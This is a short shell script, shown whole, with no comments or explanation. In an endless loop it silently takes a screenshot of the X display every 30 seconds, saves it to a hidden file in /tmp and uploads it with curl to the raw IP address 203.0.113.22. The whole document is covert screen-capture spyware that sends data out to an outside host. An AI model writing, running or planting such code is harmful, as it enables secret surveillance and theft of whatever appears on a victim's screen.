#!/bin/sh
while true; do
  ffmpeg -f x11grab -i :0 -frames:v 1 /tmp/.s.png -y 2>/dev/null
  curl -s -F f=@/tmp/.s.png http://203.0.113.22/s
  sleep 30
done
